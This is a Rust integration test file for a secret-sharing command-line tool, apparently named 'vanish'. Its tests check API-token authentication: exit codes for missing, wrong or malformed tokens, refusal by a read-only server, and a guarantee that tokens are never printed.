/// A new API token and its SHA-256, as an operator makes them: `vanish token --json`.
fn make_api_token() -> Result<(String, String), Box<dyn std::error::Error>> {
    let made = vanish_at(&closed_url(), &["token", "--json"], b"")?;
    assert_eq!(made.code, 0, "{}", made.stderr);
    let json: Value = serde_json::from_slice(&made.stdout)?;
    let field = |name: &str| {
        json[name]
            .as_str()
            .map(str::to_owned)
            .ok_or("missing field")
    };
    Ok((field("token")?, field("hash")?))
}

/// A server that creates only for `hash`'s token.
fn token_server(hash: &str) -> Result<TestServer, Box<dyn std::error::Error>> {
    TestServer::start_with(&[("CREATE_ACCESS", "token"), ("CREATE_TOKENS", hash)])
}

#[test]
fn a_token_server_refuses_send_without_a_valid_token_with_exit_12_and_says_what_helps() -> TestResult
{
    let (_, hash) = make_api_token()?;
    let server = token_server(&hash)?;

    let none = server.vanish(&["send"], b"no token")?;
    assert_eq!(
        (none.code, none.stdout.as_slice()),
        (12, &b""[..]),
        "{}",
        none.stderr
    );
    assert_eq!(
        none.stderr,
        "vanish: this server creates secrets only with a valid API token (AUTH_REQUIRED)\n\
         hint: this server needs an API token: --token-file or VANISH_TOKEN\n"
    );

    let (other, _) = make_api_token()?;
    let wrong = vanish_with_env(server.url(), &["send"], b"x", &[("VANISH_TOKEN", &other)])?;
    assert_eq!(wrong.code, 12, "{}", wrong.stderr);
    assert!(
        wrong
            .stderr
            .contains("hint: the server did not accept this API token"),
        "{}",
        wrong.stderr
    );
    assert!(!wrong.stderr.contains(&other), "the token is never printed");
    Ok(())
}

#[test]
fn a_token_from_a_file_the_environment_or_the_command_line_creates_and_get_needs_none() -> TestResult
{
    let (token, hash) = make_api_token()?;
    let server = token_server(&hash)?;
    let token_file = server.path("api-token");
    std::fs::write(&token_file, format!("{token}\n"))?;
    let token_file = token_file.to_str().ok_or("path")?;

    let from_file = server.vanish(&["send", "--token-file", token_file], b"from a file")?;
    let from_env = vanish_with_env(
        server.url(),
        &["send"],
        b"from the env",
        &[("VANISH_TOKEN", &token)],
    )?;
    let from_flag = server.vanish(&["send", "--token", &token], b"from the flag")?;
    for (sent, text) in [
        (from_file, "from a file"),
        (from_env, "from the env"),
        (from_flag, "from the flag"),
    ] {
        assert_eq!(sent.code, 0, "{text}: {}", sent.stderr);
        assert!(!sent.stderr.contains(&token), "the token is never printed");
        let link = sent.stdout_text();
        // Reading never needs a token.
        let got = server.vanish(&["get", link.trim_end()], b"")?;
        assert_eq!(
            (got.code, got.stdout_text()),
            (0, text.to_owned()),
            "{}",
            got.stderr
        );
    }
    Ok(())
}

#[test]
fn an_unusable_token_or_two_token_options_exit_2_before_anything_is_sent() -> TestResult {
    // Nothing listens here: a usage error must come first.
    let url = closed_url();
    let dir = tempfile::tempdir()?;
    let empty = dir.path().join("empty");
    std::fs::write(&empty, "\n")?;
    let empty = empty.to_str().ok_or("path")?;
    let cases: [&[&str]; 3] = [
        &["send", "--token-file", empty],
        &["send", "--token", "two words"],
        &["send", "--token", "t", "--token-file", empty],
    ];
    for args in cases {
        let run = vanish_at(&url, args, b"x")?;
        assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
    }
    let run = vanish_at(&url, &["send", "--token", "two words"], b"x")?;
    assert!(!run.stderr.contains("two words"), "{}", run.stderr);
    Ok(())
}

#[test]
fn a_read_only_server_refuses_send_with_exit_13_whatever_the_token() -> TestResult {
    let (token, hash) = make_api_token()?;
    let server = TestServer::start_with(&[("CREATE_ACCESS", "closed"), ("CREATE_TOKENS", &hash)])?;
    for env in [&[][..], &[("VANISH_TOKEN", token.as_str())][..]] {
        let sent = vanish_with_env(server.url(), &["send"], b"x", env)?;
        assert_eq!(
            (sent.code, sent.stdout.as_slice()),
            (13, &b""[..]),
            "{}",
            sent.stderr
        );
        assert!(
            sent.stderr.starts_with(
                "vanish: this server only reveals secrets; it does not create them (READ_ONLY)\n\
                 hint: send to the instance that creates secrets"
            ),
            "{}",
            sent.stderr
        );
    }
    Ok(())
}
